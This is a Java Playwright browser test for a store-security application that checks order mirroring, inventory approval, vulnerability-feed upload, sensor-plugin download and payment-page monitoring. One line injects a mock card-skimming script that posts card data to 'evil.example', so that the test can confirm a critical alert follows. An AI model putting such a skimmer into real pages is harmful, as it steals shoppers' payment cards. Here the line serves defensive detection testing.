package dev.cordon.infra.bootstrap.demo;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;

import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.FilePayload;
import dev.cordon.application.kernel.UnitOfWork;
import dev.cordon.application.store.ChangedFiles;
import dev.cordon.application.store.Inventories;
import dev.cordon.domain.kernel.StoreId;
import dev.cordon.domain.store.ConnectionKind;
import dev.cordon.domain.store.inventory.ChangedFile;
import dev.cordon.domain.store.inventory.ChangedFile.How;
import dev.cordon.domain.store.inventory.Inventory;
import dev.cordon.domain.store.inventory.InventoryItem;
import dev.cordon.domain.store.inventory.ItemKind;
import dev.cordon.domain.store.inventory.Sight;
import dev.cordon.domain.store.inventory.Trait;
import dev.cordon.infra.bootstrap.CordonServer;
import dev.cordon.infra.database.TestDatabase;
import dev.cordon.infra.keycloak.KeycloakServer;
import java.nio.charset.StandardCharsets;
import java.time.InstantSource;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import org.assertj.core.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.annotation.Import;
import org.springframework.test.context.ActiveProfiles;
import org.springframework.test.context.ContextConfiguration;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

/** A store's page, in a real browser. Pictures in {@code target/screenshots}. */
@SpringBootTest(
        classes = CordonServer.class,
        webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
        properties = {"cordon.stores.loopback=true", "vaadin.productionMode=true"})
@ActiveProfiles("run")
@ExtendWith(KeycloakServer.class)
@ContextConfiguration(initializers = TestDatabase.class)
@Import(AttackedStore.class)
class StoresBrowserIT {

    /** Made up, in the form of Wordfence Intelligence, of a plugin that no store here has. */
    private static final String FEED =
            """
            {"u-1": {"id": "u-1", "title": "Made-up < 5.7.3",
              "software": [{"type": "plugin", "slug": "made-up",
                "affected_versions": {"* - 5.7.2": {"from_version": "*", "from_inclusive": true,
                  "to_version": "5.7.2", "to_inclusive": true}},
                "patched": true, "patched_versions": ["5.7.3"]}]}}
            """;

    private static final String PLUGIN = "wp-content/plugins/made-up/";

    @Autowired private AttackedStore store;
    @Autowired private Inventories inventories;
    @Autowired private ChangedFiles changed;
    @Autowired private UnitOfWork work;
    @Autowired private InstantSource clock;
    @LocalServerPort private int port;

    private final Accessibility accessibility = new Accessibility();

    @DynamicPropertySource
    static void realParts(DynamicPropertyRegistry settings) {
        settings.add("cordon.oidc.issuer", () -> KeycloakServer.issuer().toString());
        settings.add("cordon.oidc.client-secret", () -> KeycloakServer.CLIENT_SECRET);
        settings.add("cordon.oidc.directory-secret", () -> KeycloakServer.DIRECTORY_SECRET);
    }

    @Test
    void aStoreIsMirroredByDecisionAndNoLongerWhenThatIsDecided() {
        var shop = store.takeIntoCare();
        try (var chromium = Chromium.start()) {
            var adam = login(chromium.window(), "adam", shop);
            assertThat(adam.locator("#mirror")).containsText("Orders are not mirrored");
            accessibility.look(adam, "store-1-new");
            adam.locator("#mirror-set").click();
            adam.locator("#mirror-dialog-confirm").click();
            assertThat(adam.locator("#mirror-outcome")).containsText("Nothing was stored");
            adam.locator("#mirror-owner input").fill("Dina, privacy officer");
            accessibility.look(adam, "store-2-mirror");
            adam.locator("#mirror-dialog-confirm").click();
            assertThat(adam.locator("#mirror-dialog")).hasCount(0);
            assertThat(adam.locator("#mirror")).containsText("100 orders");
            assertThat(adam.locator("#mirror")).not().containsText("the first reading goes on");
            accessibility.look(adam, "store-3-mirrored");

            var rita = login(chromium.window("de"), "rita", shop);
            assertThat(rita.locator("#mirror")).containsText("100 Bestellungen");
            assertThat(rita.locator("#mirror-set, #mirror-end")).hasCount(0);
            Chromium.picture(rita, "store-4-german");

            adam.locator("#mirror-end").click();
            adam.locator("#mirror-end-dialog-reason textarea").fill("not needed");
            Chromium.picture(adam, "store-5-end");
            adam.locator("#mirror-end-dialog-confirm").click();
            assertThat(adam.locator("#mirror")).containsText("Orders are not mirrored");
        }
        accessibility.assertNothingFound();
    }

    @Test
    void aScriptThatNobodyApprovedOnThePaymentPageIsACriticalAlert() {
        var shop = store.takeIntoCare();
        try (var chromium = Chromium.start()) {
            var adam = login(chromium.window(), "adam", shop);
            adam.locator("#payment-page-open").click();
            assertThat(adam.locator("#page-elements")).containsText("Not visited yet");
            accessibility.look(adam, "page-1-new");
            adam.locator("#page-visit").click();
            assertThat(adam.locator("#page-elements")).containsText("checkout.min.js");
            approveAll(adam);
            assertThat(adam.locator("#page-state")).containsText("as approved");
            accessibility.look(adam, "page-3-approved");

            store.inject("<script>fetch('//evil.example', {body: card})</script>");
            adam.locator("#page-watch").click();
            adam.locator("#page-minutes input").fill("0");
            adam.locator("#page-watch-dialog-confirm").click();
            assertThat(adam.locator("#page-watch-outcome")).containsText("Nothing was stored");
            adam.locator("#page-minutes input").fill("1");
            accessibility.look(adam, "page-4-watch");
            adam.locator("#page-watch-dialog-confirm").click();
            assertThat(adam.locator("#page-watch-dialog")).hasCount(0);

            var rita = login(chromium.window("de"), "rita", shop);
            rita.navigate("http://127.0.0.1:" + port + "/alerts");
            rita.getByText("The payment page is not what was approved").first().click();
            assertThat(rita.locator("body"))
                    .containsText("A script in the page that nobody approved");
            Chromium.picture(rita, "page-5-alert");
            rita.navigate("http://127.0.0.1:" + port + "/stores/" + shop + "/payment-page");
            assertThat(rita.locator("#page-state")).containsText("1 nicht freigegeben");
            assertThat(rita.locator("#page-visit, #page-watch, #page-approve")).hasCount(0);
            Chromium.picture(rita, "page-6-differs");
            thePageBecomesEvidence(rita);
        } finally {
            store.inject("");
        }
        accessibility.assertNothingFound();
    }

    /** By itself, once its alert is an incident. */
    private void thePageBecomesEvidence(Page rita) {
        rita.navigate("http://127.0.0.1:" + port + "/alerts");
        rita.getByText("The payment page is not what was approved").first().click();
        rita.locator("#alert-escalate").click();
        rita.locator("#escalate-confirm").click();
        rita.waitForURL("**/incidents/INC-*/overview");
        rita.navigate(rita.url().replaceFirst("/overview$", "/evidence"));
        for (int look = 0; look < 30 && !rita.content().contains("payment-page.html"); look++) {
            rita.waitForTimeout(1_000);
            rita.reload();
        }
        assertThat(rita.locator(".evidence-preserve")).hasCount(0);
        assertThat(rita.locator("body")).containsText("payment-page.html");
        Chromium.picture(rita, "page-7-evidence");
    }

    private void approveAll(Page adam) {
        adam.locator("#page-approve").click();
        var boxes = adam.locator("#approve-chosen vaadin-checkbox");
        assertThat(boxes).hasCount(3);
        for (var box : boxes.all()) {
            box.locator("input").check();
        }
        adam.locator("#approve-headers input").check();
        adam.locator("#approve-elements-confirm").click();
        assertThat(adam.locator("#approve-outcome")).containsText("justification");
        adam.locator("#approve-why input").fill("takes orders and cards");
        accessibility.look(adam, "page-2-approve");
        adam.locator("#approve-elements-confirm").click();
        assertThat(adam.locator("#approve-elements")).hasCount(0);
    }

    @Test
    void whatIsInAStoreIsLookedThroughAndApproved() {
        var shop = store.takeIntoCare();
        try (var chromium = Chromium.start()) {
            var adam = login(chromium.window(), "adam", shop);
            adam.locator("#inventory-open").click();
            adam.locator("#inventory-look").click();
            assertThat(adam.locator("#inventory-plugin")).containsText("WooCommerce");
            assertThat(adam.locator("#inventory-rest-key")).containsText("not seen");
            heApprovesWhatHeSees(adam);
            accessibility.look(adam, "inventory-2-approved");
            var neighbor = store.takeNeighborIntoCare();
            heRenewsTheListOfVulnerabilities(adam);
            adam.navigate("http://127.0.0.1:" + port + "/stores/" + neighbor + "/inventory");
            assertThat(adam.locator("#inventory-look")).isVisible();
            assertThat(adam.locator("#inventory-look-files")).isHidden();
            heSeesEachFileThatChanged(adam, neighbor);

            var rita = login(chromium.window("de"), "rita", shop);
            rita.navigate("http://127.0.0.1:" + port + "/stores/" + shop + "/inventory");
            assertThat(rita.locator("#inventory-differences")).containsText("Freigegeben von adam");
            assertThat(rita.locator("#inventory-look, #inventory-look-files")).hasCount(0);
            assertThat(rita.locator("#inventory-approve-all, #exposures-renew")).hasCount(0);
            Chromium.picture(rita, "inventory-3-reader");
        }
        accessibility.assertNothingFound();
    }

    /** As after two looks at its files, of which he approved the first. */
    private void heSeesEachFileThatChanged(Page adam, StoreId shop) {
        listed(shop, "1", 3);
        adam.reload();
        adam.locator("#inventory-approve-all").click();
        adam.locator("#inventory-approve-note input").fill("as the agency left it");
        adam.locator("#inventory-approve-confirm").click();
        assertThat(adam.locator("#inventory-differences")).containsText("as the agency left it");
        listed(shop, "2", 300);
        work.run(() -> changed.add(shop, changedFiles()));
        adam.reload();
        adam.locator(".inventory-files-open").click();
        assertThat(adam.locator("#inventory-changed-files")).containsText("300 files");
        var files = adam.locator("#inventory-changed-files-list");
        assertThat(files).containsText(PLUGIN + "file-0000.php");
        assertThat(files).containsText("new");
        accessibility.look(adam, "inventory-5-files");
        files.evaluate("grid => grid.scrollToIndex(299)");
        assertThat(files).containsText(PLUGIN + "file-0299.php");
        adam.locator("#inventory-changed-files-cancel").click();
        assertThat(adam.locator("#inventory-changed-files")).hasCount(0);
    }

    private void listed(StoreId shop, String digest, int files) {
        var plugin =
                InventoryItem.of(ItemKind.FILES, PLUGIN, PLUGIN)
                        .with(Trait.FILES, "" + files)
                        .with(Trait.DIGEST, digest);
        var sights = Map.of(ItemKind.FILES, Sight.whole(ConnectionKind.SHELL));
        var seen = Inventory.of(shop, clock.instant(), List.of(plugin), sights);
        work.run(() -> inventories.seen(seen));
    }

    private List<ChangedFile> changedFiles() {
        return IntStream.range(0, 300)
                .mapToObj("file-%04d.php"::formatted)
                .map(file -> new ChangedFile(PLUGIN + file, How.NEW, clock.instant()))
                .toList();
    }

    /** Anew if the daily look came between his own look and his approval. */
    private void heApprovesWhatHeSees(Page adam) {
        var stale = adam.locator("text=Somebody was faster");
        var approved = adam.locator("#inventory-state").getByText("as approved");
        do {
            adam.reload();
            adam.locator("#inventory-approve-all").click();
            adam.locator("#inventory-approve-confirm").click();
            assertThat(adam.locator("#inventory-approve-outcome")).containsText("note");
            adam.locator("#inventory-approve-note input").fill("looked through with the agency");
            accessibility.look(adam, "inventory-1-approve");
            adam.locator("#inventory-approve-confirm").click();
            assertThat(stale.or(approved).first()).isVisible();
        } while (stale.count() > 0);
        assertThat(approved.first()).isVisible();
    }

    @Test
    void theSensorPluginIsMadeAndDownloadedByWhoManagesStores() {
        var shop = store.takeIntoCare();
        try (var chromium = Chromium.start()) {
            var adam = login(chromium.window("de"), "adam", shop);
            adam.locator("#sensor").click();
            accessibility.look(adam, "store-6-sensor");
            adam.locator("#sensor-dialog-confirm").click();
            var link = adam.locator("#sensor-download");
            link.waitFor();
            accessibility.look(adam, "store-7-sensor-made");
            var download = adam.waitForDownload(link::click);
            Assertions.assertThat(download.suggestedFilename()).isEqualTo("cordon-sensor.zip");
            Assertions.assertThat(download.path()).isNotEmptyFile();
            adam.locator("#sensor-dialog-cancel").click();
            assertThat(adam.locator("body")).containsText("sensor plugin");

            var rita = login(chromium.window(), "rita", shop);
            assertThat(rita.locator("#sensor")).hasCount(0);
        }
        accessibility.assertNothingFound();
    }

    private void heRenewsTheListOfVulnerabilities(Page adam) {
        adam.locator("#exposures-renew").click();
        var file = adam.locator("#feed-upload input[type=file]");
        file.setInputFiles(new FilePayload("feed.json", "application/json", bytes("{\"a\":")));
        assertThat(adam.locator("#feed-told")).containsText("no such list");
        accessibility.look(adam, "inventory-4-feed");
        adam.locator("#feed-cancel").click();
        assertThat(adam.locator("#feed-upload")).hasCount(0);
        adam.locator("#exposures-renew").click();
        adam.locator("#feed-upload input[type=file]")
                .setInputFiles(new FilePayload("feed.json", "application/json", bytes(FEED)));
        assertThat(adam.locator("#feed-told")).containsText("In force: 1");
        adam.locator("#feed-cancel").click();
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private Page login(Page page, String who, StoreId shop) {
        page.navigate("http://127.0.0.1:" + port + "/stores/" + shop);
        page.locator("#username").fill(who);
        page.locator("#password").fill(KeycloakServer.PASSWORD_PREFIX + who);
        page.locator("#kc-login").click();
        page.locator("#rail").waitFor();
        return page;
    }
}
